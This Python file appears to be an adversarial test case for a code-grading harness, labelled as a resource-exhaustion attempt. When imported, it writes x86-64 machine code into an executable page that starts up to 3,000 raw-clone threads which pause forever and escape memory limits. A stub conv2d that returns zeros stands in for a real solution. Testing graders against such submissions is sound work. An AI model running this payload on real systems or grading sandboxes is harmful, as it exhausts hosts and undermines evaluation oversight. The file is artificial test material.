"""NAME: own_res_raw_threads
CATEGORY: 5 resource exhaustion
ATTEMPTS: starts up to 3,000 threads by raw clone, on one small stack: no limit of memory counts them
A CORRECT GRADER MUST: the grader can still start its own processes: no fault of the grader's, zero points
"""
import ctypes
import mmap
import os
import platform
import struct

import numpy as np

MOST, FLAGS = 3000, 0x50F00  # VM, FS, FILES, SIGHAND, THREAD, SYSVSEM


def start_threads():
    stack = mmap.mmap(-1, 65536)
    top = ctypes.addressof(ctypes.c_char.from_buffer(stack)) + 65536 - 64
    code = b"\x53\xbb" + struct.pack("<I", MOST)  # push rbx; mov ebx, MOST
    loop = b"\x48\xbf" + struct.pack("<Q", FLAGS) + b"\x48\xbe" + struct.pack("<Q", top)  # rdi, rsi
    loop += b"\x31\xd2\x4d\x31\xd2\x4d\x31\xc0\xb8\x38\x00\x00\x00\x0f\x05"  # rdx, r10, r8 = 0; clone
    loop += b"\x48\x85\xc0\x74\x0a\x78\x04"  # child: +10; refused: +4
    loop += b"\xff\xcb\x75" + struct.pack("<b", -(len(loop) + 4))  # next
    code += loop + b"\x89\xd8\x5b\xc3" + b"\x90\xb8\x22\x00\x00\x00\x0f\x05\xeb\xf7"  # return what is left; pause for ever
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(code)
    run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    start_threads.kept = stack, page
    return MOST - run()


print("threads", start_threads() if platform.machine() == "x86_64" and os.geteuid() else 0, flush=True)


def conv2d(image, kernel, stride=1, padding=0):
    return np.zeros((1, 1))
